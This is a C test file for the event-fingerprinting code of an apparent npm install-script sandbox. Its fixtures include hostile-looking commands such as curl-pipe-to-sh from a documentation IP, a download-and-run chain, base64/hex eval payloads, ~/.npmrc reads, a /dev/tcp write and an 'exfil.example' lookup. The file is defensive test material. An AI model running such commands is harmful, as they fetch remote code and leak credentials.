/*
 * tests/differ/test_fingerprint.c - one event, one fingerprint.
 */
#include <stdlib.h>
#include <string.h>

#include "helpers.h"

static fangs_event_list evs;

static void setup(void)
{
	memset(&evs, 0, sizeof(evs));
}

static void teardown(void)
{
	fangs_event_list_free(&evs);
}

/* Fingerprints `ev` and checks kind, actor and value. */
static void expect_fp(const fangs_event *ev, const char *version, fangs_fp_kind kind, fangs_actor actor,
		      const char *value)
{
	fangs_norm_ctx ctx = {"foo", version};
	fangs_fingerprint fp;
	int rc = fangs_differ_fingerprint(NULL, &ctx, ev, &fp);
	ck_assert_msg(rc == 1, "fingerprint rc %d: %s", rc, fangs_error_last());
	ck_assert_str_eq(fangs_fp_kind_name(fp.kind), fangs_fp_kind_name(kind));
	ck_assert_str_eq(fangs_actor_name(fp.actor), fangs_actor_name(actor));
	ck_assert_str_eq(fp.value, value);
	fangs_fingerprint_clear(&fp);
	ck_assert_ptr_null(fp.value);
}

START_TEST(file_opens)
{
	expect_fp(t_open(&evs, NULL, "/root/.npmrc", FANGS_OPEN_READ), NULL, FANGS_FP_FS_READ, FANGS_ACTOR_NPM,
		  "~/.npmrc");
	expect_fp(t_open(&evs, "foo", "/root/.npmrc", FANGS_OPEN_READ), NULL, FANGS_FP_FS_READ, FANGS_ACTOR_SCRIPT,
		  "~/.npmrc");
	expect_fp(t_open(&evs, "foo", "/tmp/npm-77-a1b2c3d4/out.js", FANGS_OPEN_READ | FANGS_OPEN_WRITE), NULL,
		  FANGS_FP_FS_WRITE, FANGS_ACTOR_SCRIPT, "/tmp/<tmp>/out.js");
	expect_fp(t_open(&evs, NULL, "/work/node_modules/foo/lib/foo-2.0.1.js", FANGS_OPEN_WRITE), "2.0.1",
		  FANGS_FP_FS_WRITE, FANGS_ACTOR_NPM, "/work/node_modules/foo/lib/foo-<version>.js");
}
END_TEST

START_TEST(actor_from_origin)
{
	fangs_event *ev = t_open(&evs, NULL, "/etc/hosts", FANGS_OPEN_READ);
	ck_assert_int_eq(fangs_event_actor(ev), FANGS_ACTOR_NPM);
	ev->origin.script = strdup("install");
	ck_assert_int_eq(fangs_event_actor(ev), FANGS_ACTOR_SCRIPT);
	ev = t_open(&evs, "bar", "/etc/hosts", FANGS_OPEN_READ);
	ck_assert_int_eq(fangs_event_actor(ev), FANGS_ACTOR_SCRIPT);
	ck_assert_int_eq(fangs_event_actor(NULL), FANGS_ACTOR_NPM);
}
END_TEST

START_TEST(execs_plain)
{
	expect_fp(t_exec(&evs, "foo", "/usr/bin/node", "node", "install.js", NULL), NULL, FANGS_FP_EXEC,
		  FANGS_ACTOR_SCRIPT, "/usr/bin/node");
	/* a script file is not inline code, even when its own arguments look like flags */
	expect_fp(t_exec(&evs, "foo", "/usr/bin/node", "node", "scripts/build.js", "-e", "x", NULL), NULL,
		  FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT, "/usr/bin/node");
	expect_fp(t_exec(&evs, "foo", "/usr/bin/git", "git", "clone", "https://git.example/x.git", NULL), NULL,
		  FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT, "/usr/bin/git");
	expect_fp(t_exec(&evs, "foo", "/tmp/node-gyp-tmp-Q1w2E3/configure", "./configure", NULL), NULL, FANGS_FP_EXEC,
		  FANGS_ACTOR_SCRIPT, "/tmp/<tmp>/configure");
	expect_fp(t_exec(&evs, NULL, "/usr/bin/npm", "npm", "install", NULL), NULL, FANGS_FP_EXEC, FANGS_ACTOR_NPM,
		  "/usr/bin/npm");
}
END_TEST

START_TEST(execs_inline_code)
{
	expect_fp(t_exec(&evs, "foo", "/bin/sh", "sh", "-c", "node install.js", NULL), NULL, FANGS_FP_EXEC,
		  FANGS_ACTOR_SCRIPT, "/bin/sh -c node install.js");
	expect_fp(t_exec(&evs, "foo", "/bin/sh", "sh", "-c", "  curl -s\thttp://203.0.113.7/x.sh   |sh\n", NULL), NULL,
		  FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT, "/bin/sh -c curl -s http://203.0.113.7/x.sh |sh");
	expect_fp(t_exec(&evs, "foo", "/bin/sh", "sh", "-c",
			 "cd /tmp/npm-1234-abcdef && ./build.sh --out=/tmp/tmp-999xyz/out-1714558953123.json "
			 "2>/proc/31337/fd/2",
			 NULL),
		  NULL, FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT,
		  "/bin/sh -c cd /tmp/<tmp> && ./build.sh --out=/tmp/<tmp>/out-<ts>.json 2>/proc/<pid>/fd/<fd>");
	expect_fp(t_exec(&evs, "foo", "/usr/bin/node", "node", "-e", "require('./install-1.2.3.js')", NULL), "1.2.3",
		  FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT, "/usr/bin/node -e require('./install-<version>.js')");
	expect_fp(t_exec(&evs, "foo", "/usr/local/bin/node", "node", "--eval", "process.exit(0)", NULL), NULL,
		  FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT, "/usr/local/bin/node --eval process.exit(0)");
	expect_fp(t_exec(&evs, "foo", "/usr/bin/node", "node", "-p", "process.arch", NULL), NULL, FANGS_FP_EXEC,
		  FANGS_ACTOR_SCRIPT, "/usr/bin/node -p process.arch");
	expect_fp(t_exec(&evs, "foo", "/bin/bash", "bash", "-lc", "echo $HOME", NULL), NULL, FANGS_FP_EXEC,
		  FANGS_ACTOR_SCRIPT, "/bin/bash -lc echo $HOME");
	expect_fp(t_exec(&evs, "foo", "/usr/bin/python3.11", "python3", "-c", "import os; print(os.environ)", NULL),
		  NULL, FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT, "/usr/bin/python3.11 -c import os; print(os.environ)");
	expect_fp(t_exec(&evs, "foo", "/usr/bin/perl", "perl", "-e", "print 1", NULL), NULL, FANGS_FP_EXEC,
		  FANGS_ACTOR_SCRIPT, "/usr/bin/perl -e print 1");
	/* busybox: argv[0] names the applet */
	expect_fp(t_exec(&evs, "foo", "/bin/busybox", "sh", "-c", "wget -qO- http://x.example", NULL), NULL,
		  FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT, "/bin/busybox -c wget -qO- http://x.example");
	/* a shell running a script file keeps just the binary */
	expect_fp(t_exec(&evs, "foo", "/bin/sh", "sh", "./configure", NULL), NULL, FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT,
		  "/bin/sh");
	/* the same inline code in different whitespace is one fingerprint */
	expect_fp(t_exec(&evs, "foo", "/bin/sh", "sh", "-c", "node\n  install.js ", NULL), NULL, FANGS_FP_EXEC,
		  FANGS_ACTOR_SCRIPT, "/bin/sh -c node install.js");
}
END_TEST

START_TEST(exec_long_inline_code)
{
	char *a = malloc(5000), *b = malloc(5000);
	fangs_norm_ctx ctx = {"foo", NULL};
	fangs_fingerprint fa, fb;
	ck_assert_ptr_nonnull(a);
	ck_assert_ptr_nonnull(b);
	memset(a, 'x', 4999);
	a[4999] = '\0';
	memcpy(b, a, 5000);
	b[4990] = 'y';
	t_exec(&evs, "foo", "/bin/sh", "sh", "-c", a, NULL);
	t_exec(&evs, "foo", "/bin/sh", "sh", "-c", b, NULL);
	ck_assert_int_eq(fangs_differ_fingerprint(NULL, &ctx, &evs.items[0], &fa), 1);
	ck_assert_int_eq(fangs_differ_fingerprint(NULL, &ctx, &evs.items[1], &fb), 1);
	/* cut, but what lies past the cut still tells them apart */
	ck_assert_uint_lt(strlen(fa.value), 1200);
	ck_assert_ptr_nonnull(strstr(fa.value, "...#"));
	ck_assert_str_ne(fa.value, fb.value);
	fangs_fingerprint_clear(&fa);
	fangs_fingerprint_clear(&fb);
	free(a);
	free(b);
}
END_TEST

static char *fp_value(const fangs_event *ev, const char *version)
{
	fangs_norm_ctx ctx = {"foo", version};
	fangs_fingerprint fp;
	char *v;
	ck_assert_int_eq(fangs_differ_fingerprint(NULL, &ctx, ev, &fp), 1);
	v = strdup(fp.value);
	fangs_fingerprint_clear(&fp);
	return v;
}

/* The noise pass folds hex runs and long numbers to <hex> / <ts>; a payload
 * encoded that way must still tell two versions of the code apart, while
 * temp paths, the version and time stamps stay noise. */
START_TEST(exec_inline_code_digest)
{
	char *a, *b, *c;
	a = fp_value(t_exec(&evs, "foo", "/usr/bin/node", "node", "-e",
			    "eval(Buffer.from('636f6e736f6c652e6c6f67283129','hex').toString())", NULL),
		     NULL);
	b = fp_value(t_exec(&evs, "foo", "/usr/bin/node", "node", "-e",
			    "eval(Buffer.from('72657175697265282268747470','hex').toString())", NULL),
		     NULL);
	ck_assert_ptr_nonnull(strstr(a, "Buffer.from('<hex>','hex')"));
	ck_assert_ptr_nonnull(strstr(a, " code#"));
	ck_assert_str_ne(a, b);
	/* the digest is 12 hex digits at the end */
	ck_assert_uint_eq(strlen(strstr(a, " code#")), 6 + 12);
	free(a);
	free(b);

	a = fp_value(t_exec(&evs, "foo", "/usr/bin/python3", "python3", "-c",
			    "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))", NULL),
		     NULL);
	b = fp_value(t_exec(&evs, "foo", "/usr/bin/python3", "python3", "-c",
			    "import base64;exec(base64.b64decode('aW1wb3J0IHNvY2tldDtzPXNvY2tldC5zb2NrZXQoKQ=='))",
			    NULL),
		     NULL);
	ck_assert_str_ne(a, b);
	free(a);
	free(b);

	/* a number too long to be a time stamp is data */
	a = fp_value(t_exec(&evs, "foo", "/usr/bin/node", "node", "-e", "f(123456789012345678901234)", NULL), NULL);
	b = fp_value(t_exec(&evs, "foo", "/usr/bin/node", "node", "-e", "f(123456789012345678901299)", NULL), NULL);
	ck_assert_str_ne(a, b);
	free(a);
	free(b);

	/* the same payload under other temp paths, another release's version
	 * and another time stamp is one fingerprint */
	a = fp_value(t_exec(&evs, "foo", "/usr/bin/node", "node", "-e",
			    "require('/tmp/npm-1234-abcdef/x-1.2.3.js')('c0ffee12deadbeef', '1.2.3', 1714558953123)",
			    NULL),
		     "1.2.3");
	b = fp_value(t_exec(&evs, "foo", "/usr/bin/node", "node", "-e",
			    "require('/tmp/npm-98765-fedcba/x-1.2.4.js')('c0ffee12deadbeef', '1.2.4', 1764080000001)",
			    NULL),
		     "1.2.4");
	c = fp_value(t_exec(&evs, "foo", "/usr/bin/node", "node", "-e",
			    "require('/tmp/npm-98765-fedcba/x-1.2.4.js')('c0ffee12deadbee0', '1.2.4', 1764080000001)",
			    NULL),
		     "1.2.4");
	ck_assert_str_eq(a, b);
	ck_assert_str_ne(b, c);
	free(a);
	free(b);
	free(c);

	/* code with nothing folded keeps the plain value (no digest) */
	a = fp_value(t_exec(&evs, "foo", "/bin/sh", "sh", "-c", "echo built 2026-11-22T16_17_18_999Z", NULL), NULL);
	ck_assert_str_eq(a, "/bin/sh -c echo built <date>");
	free(a);
}
END_TEST

/* `tpl` with every "@U@" replaced by `user` (malloc'd). */
static char *with_user(const char *tpl, const char *user)
{
	size_t n = strlen(tpl) + 1, ul = strlen(user);
	char *out, *o;
	for (const char *p = strstr(tpl, "@U@"); p; p = strstr(p + 3, "@U@"))
		n += ul;
	o = out = malloc(n);
	ck_assert_ptr_nonnull(out);
	while (*tpl) {
		if (!strncmp(tpl, "@U@", 3)) {
			memcpy(o, user, ul);
			o += ul;
			tpl += 3;
		} else {
			*o++ = *tpl++;
		}
	}
	*o = '\0';
	return out;
}

/*
 * node-gyp's make runs these (argon2 0.31, better-sqlite3 9.6 and 10.0, as
 * recorded): the sandbox's user is another person every run, and gyp writes
 * the home into search paths (a:/home/u), include flags (-I/home/u), make
 * variables (cmd_/home/u) and .deps//home/u. One fingerprint whoever it is.
 */
START_TEST(exec_gyp_command_lines)
{
	static const char *const tpl[] = {
		"LD_LIBRARY_PATH=/home/@U@/app/node_modules/better-sqlite3/build/Release/lib.host:/home/@U@/app/"
		"node_modules/better-sqlite3/build/Release/lib.target:$LD_LIBRARY_PATH; export LD_LIBRARY_PATH; cd "
		"../deps; mkdir -p /home/@U@/app/node_modules/better-sqlite3/build/Release/obj/gen/sqlite3; node "
		"copy.js \"/home/@U@/app/node_modules/better-sqlite3/build/Release/obj/gen/sqlite3\" \"\"",
		"printf '%s\\n' 'cmd_4292fa9a667d77b27488aa109b010a85bce8e4e7a1c7aa0370cea902395c3866.intermediate "
		":= LD_LIBRARY_PATH=/home/@U@/app/node_modules/better-sqlite3/build/Release/lib.host:/home/@U@/app/"
		"node_modules/better-sqlite3/build/Release/lib.target:$$LD_LIBRARY_PATH; export LD_LIBRARY_PATH; cd "
		"../deps; mkdir -p /home/@U@/app/node_modules/better-sqlite3/build/Release/obj/gen/sqlite3; node "
		"copy.js \"/home/@U@/app/node_modules/better-sqlite3/build/Release/obj/gen/sqlite3\" \"\"' > "
		"./Release/.deps/4292fa9a667d77b27488aa109b010a85bce8e4e7a1c7aa0370cea902395c3866.intermediate.d",
		"printf '%s\\n' 'cmd_Release/obj.target/argon2/argon2_node.o := g++ -o "
		"Release/obj.target/argon2/argon2_node.o ../argon2_node.cpp '\\''-D_FORTIFY_SOURCE=2'\\'' "
		"'\\''-DNODE_GYP_MODULE_NAME=argon2'\\'' '\\''-DNAPI_VERSION=3'\\'' -I../argon2/include "
		"-I/usr/include/node -I/usr/deps/v8/include -I/home/@U@/app/node_modules/node-addon-api  -fPIC "
		"-pthread -O3 -std=gnu++17 -MMD -MF ./Release/.deps/Release/obj.target/argon2/argon2_node.o.d.raw   "
		"-c' > ./Release/.deps/Release/obj.target/argon2/argon2_node.o.d",
		"mkdir -p \"/home/@U@/app/node_modules/argon2/lib/binding/napi-v3/\" "
		"\"./Release/.deps//home/@U@/app/node_modules/argon2/lib/binding/napi-v3/\"",
		"printf '%s\\n' 'cmd_/home/@U@/app/node_modules/argon2/lib/binding/napi-v3/argon2.node := ln -f "
		"\"Release/argon2.node\" \"/home/@U@/app/node_modules/argon2/lib/binding/napi-v3/argon2.node\" "
		"2>/dev/null || (rm -rf \"/home/@U@/app/node_modules/argon2/lib/binding/napi-v3/argon2.node\" && cp "
		"-af \"Release/argon2.node\" \"/home/@U@/app/node_modules/argon2/lib/binding/napi-v3/argon2.node\")' "
		"> ./Release/.deps//home/@U@/app/node_modules/argon2/lib/binding/napi-v3/argon2.node.d",
	};
	for (size_t i = 0; i < sizeof(tpl) / sizeof(tpl[0]); i++) {
		char *c1 = with_user(tpl[i], "samb"), *c2 = with_user(tpl[i], "abecker");
		char *a = fp_value(t_exec(&evs, "argon2", "/bin/sh", "/bin/sh", "-c", c1, NULL), "0.31.1");
		char *b = fp_value(t_exec(&evs, "argon2", "/bin/sh", "/bin/sh", "-c", c2, NULL), "0.31.2");
		ck_assert_msg(!strcmp(a, b), "two users, two fingerprints:\n%s\n%s", a, b);
		ck_assert_msg(!strstr(a, "samb") && !strstr(a, "/home/"), "the user stays: %s", a);
		free(a);
		free(b);
		free(c1);
		free(c2);
	}
}
END_TEST

/* A URL is no path: a /home/ in it stays, and so does the host. */
START_TEST(exec_url_keeps_home)
{
	char *a = fp_value(t_exec(&evs, "foo", "/bin/sh", "sh", "-c",
				  "curl -s https://203.0.113.7/home/alice/x.sh -o/tmp/x.sh && "
				  "PATH=/usr/bin:/tmp/tmp-4242xyz sh /tmp/x.sh",
				  NULL),
			   NULL);
	ck_assert_str_eq(a, "/bin/sh -c curl -s https://203.0.113.7/home/alice/x.sh -o/tmp/x.sh && "
			    "PATH=/usr/bin:/tmp/<tmp> sh /tmp/x.sh");
	free(a);
}
END_TEST

START_TEST(network)
{
	fangs_event *ev;
	expect_fp(t_connect(&evs, "foo", "203.0.113.7", 443, FANGS_PROTO_TCP), NULL, FANGS_FP_NET, FANGS_ACTOR_SCRIPT,
		  "203.0.113.7:443/tcp");
	expect_fp(t_connect(&evs, "foo", "::ffff:203.0.113.7", 443, FANGS_PROTO_TCP), NULL, FANGS_FP_NET,
		  FANGS_ACTOR_SCRIPT, "203.0.113.7:443/tcp");
	expect_fp(t_connect(&evs, NULL, "2001:0db8::0001", 53, FANGS_PROTO_UDP), NULL, FANGS_FP_NET, FANGS_ACTOR_NPM,
		  "[2001:db8::1]:53/udp");
	ev = t_connect(&evs, "foo", "/run/user/0/bus", 0, FANGS_PROTO_NONE);
	ev->family = FANGS_FAMILY_UNIX;
	expect_fp(ev, NULL, FANGS_FP_NET, FANGS_ACTOR_SCRIPT, "unix:/run/user/0/bus");
	/* the name service's plumbing is no destination; a resolver elsewhere is */
	ck_assert_int_eq(fangs_differ_fingerprint(NULL, NULL, t_connect(&evs, "foo", "127.0.0.53", 53, FANGS_PROTO_UDP),
						  &(fangs_fingerprint){0}),
			 0);
	ck_assert_int_eq(fangs_differ_fingerprint(NULL, NULL, t_connect(&evs, NULL, "::1", 53, FANGS_PROTO_TCP),
						  &(fangs_fingerprint){0}),
			 0);
	ev = t_connect(&evs, NULL, "/var/run/nscd/socket", 0, FANGS_PROTO_NONE);
	ev->family = FANGS_FAMILY_UNIX;
	ck_assert_int_eq(fangs_differ_fingerprint(NULL, NULL, ev, &(fangs_fingerprint){0}), 0);
	expect_fp(t_connect(&evs, "foo", "8.8.8.8", 53, FANGS_PROTO_UDP), NULL, FANGS_FP_NET, FANGS_ACTOR_SCRIPT,
		  "8.8.8.8:53/udp");
	expect_fp(t_connect(&evs, "foo", "127.0.0.53", 5353, FANGS_PROTO_UDP), NULL, FANGS_FP_NET, FANGS_ACTOR_SCRIPT,
		  "127.0.0.53:5353/udp");
	ev = t_connect(&evs, "foo", "/var/run/docker.sock", 0, FANGS_PROTO_NONE);
	ev->family = FANGS_FAMILY_UNIX;
	expect_fp(ev, NULL, FANGS_FP_NET, FANGS_ACTOR_SCRIPT, "unix:/var/run/docker.sock");
	expect_fp(t_dns(&evs, "foo", "Exfil.Example."), NULL, FANGS_FP_DNS, FANGS_ACTOR_SCRIPT, "exfil.example");
	expect_fp(t_sni(&evs, NULL, "Registry.Example"), NULL, FANGS_FP_SNI, FANGS_ACTOR_NPM, "registry.example");
	/* a host asked of the sandbox's proxy is its host, whatever the tunnel's TLS name says */
	ev = t_sni(&evs, "foo", "other.example");
	ev->kind = FANGS_EV_PROXY_REQUEST;
	ev->host = strdup("Dl.Example.COM.");
	ev->port = 443;
	expect_fp(ev, NULL, FANGS_FP_SNI, FANGS_ACTOR_SCRIPT, "dl.example.com");
}
END_TEST

START_TEST(no_fingerprint)
{
	fangs_event ev;
	fangs_fingerprint fp;
	memset(&ev, 0, sizeof(ev));
	ev.kind = FANGS_EV_PROC_FORK;
	ck_assert_int_eq(fangs_differ_fingerprint(NULL, NULL, &ev, &fp), 0);
	ev.kind = FANGS_EV_PROC_EXIT;
	ck_assert_int_eq(fangs_differ_fingerprint(NULL, NULL, &ev, &fp), 0);
	ev.kind = FANGS_EV_FILE_OPEN; /* no path */
	ck_assert_int_eq(fangs_differ_fingerprint(NULL, NULL, &ev, &fp), 0);
	/* sinks and sources of nothing */
	ck_assert_int_eq(fangs_differ_fingerprint(NULL, NULL, t_open(&evs, "foo", "/dev/null", FANGS_OPEN_WRITE), &fp),
			 0);
	ck_assert_int_eq(
		fangs_differ_fingerprint(NULL, NULL, t_open(&evs, "foo", "/dev/urandom", FANGS_OPEN_READ), &fp), 0);
	/* a device that does lead somewhere still counts */
	expect_fp(t_open(&evs, "foo", "/dev/tcp/203.0.113.7/80", FANGS_OPEN_WRITE), NULL, FANGS_FP_FS_WRITE,
		  FANGS_ACTOR_SCRIPT, "/dev/tcp/203.0.113.7/80");
	expect_fp(t_open(&evs, "foo", "/dev/nullx", FANGS_OPEN_READ), NULL, FANGS_FP_FS_READ, FANGS_ACTOR_SCRIPT,
		  "/dev/nullx");
	ck_assert_int_eq(fangs_differ_fingerprint(NULL, NULL, NULL, &fp), FANGS_EINVAL);
	/* an exec whose argv went missing keeps its binary */
	ev.kind = FANGS_EV_EXEC;
	ev.path = (char *)"/bin/sh";
	ev.argc = 3;
	ck_assert_int_eq(fangs_differ_fingerprint(NULL, NULL, &ev, &fp), 1);
	ck_assert_str_eq(fp.value, "/bin/sh");
	fangs_fingerprint_clear(&fp);
	ev.path = NULL;
	ck_assert_int_eq(fangs_differ_fingerprint(NULL, NULL, &ev, &fp), 0);
}
END_TEST

START_TEST(syscall_fingerprint)
{
	fangs_event ev = {0};
	fangs_fingerprint fp = {0};
	char op[] = "kill", detail[] = "SIGKILL sshd (outside)", path[] = "/proc/1/ns";

	ev.kind = FANGS_EV_SYSCALL;
	ev.op = op;
	ev.detail = detail;
	ev.target = 4242;
	ck_assert_int_eq(fangs_differ_fingerprint(NULL, NULL, &ev, &fp), 1);
	ck_assert_int_eq(fp.kind, FANGS_FP_SYSCALL);
	ck_assert_int_eq(fp.actor, FANGS_ACTOR_NPM);
	/* the target pid is not part of it: the same act on another run's pid is the same */
	ck_assert_str_eq(fp.value, "kill SIGKILL sshd (outside)");
	fangs_fingerprint_clear(&fp);
	ev.path = path;
	ck_assert_int_eq(fangs_differ_fingerprint(NULL, NULL, &ev, &fp), 1);
	ck_assert_str_eq(fp.value, "kill SIGKILL sshd (outside) /proc/<pid>/ns"); /* paths normalized */
	fangs_fingerprint_clear(&fp);
	ev.op = NULL;
	ck_assert_int_eq(fangs_differ_fingerprint(NULL, NULL, &ev, &fp), 0);
}
END_TEST

START_TEST(names)
{
	fangs_fp_kind k;
	fangs_actor a;
	static const char *const kinds[] = {"fs_read", "fs_write", "exec", "net", "dns", "sni", "syscall"};
	_Static_assert(sizeof(kinds) / sizeof(kinds[0]) == FANGS_FP_KIND_COUNT, "a name for every kind");
	for (int i = 0; i < FANGS_FP_KIND_COUNT; i++) {
		ck_assert_str_eq(fangs_fp_kind_name((fangs_fp_kind)i), kinds[i]);
		ck_assert_int_eq(fangs_fp_kind_parse(kinds[i], &k), 0);
		ck_assert_int_eq(k, i);
	}
	ck_assert_int_eq(fangs_fp_kind_parse("open", &k), FANGS_EINVAL);
	ck_assert_str_eq(fangs_actor_name(FANGS_ACTOR_NPM), "npm");
	ck_assert_str_eq(fangs_actor_name(FANGS_ACTOR_SCRIPT), "script");
	ck_assert_int_eq(fangs_actor_parse("script", &a), 0);
	ck_assert_int_eq(a, FANGS_ACTOR_SCRIPT);
	ck_assert_int_eq(fangs_actor_parse("npm", &a), 0);
	ck_assert_int_eq(a, FANGS_ACTOR_NPM);
	ck_assert_int_eq(fangs_actor_parse("yarn", &a), FANGS_EINVAL);
}
END_TEST

TCase *tcase_fingerprint(void)
{
	TCase *tc = tcase_create("fingerprint");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, file_opens);
	tcase_add_test(tc, exec_gyp_command_lines);
	tcase_add_test(tc, exec_url_keeps_home);
	tcase_add_test(tc, actor_from_origin);
	tcase_add_test(tc, execs_plain);
	tcase_add_test(tc, execs_inline_code);
	tcase_add_test(tc, exec_long_inline_code);
	tcase_add_test(tc, exec_inline_code_digest);
	tcase_add_test(tc, network);
	tcase_add_test(tc, no_fingerprint);
	tcase_add_test(tc, names);
	tcase_add_test(tc, syscall_fingerprint);
	return tc;
}
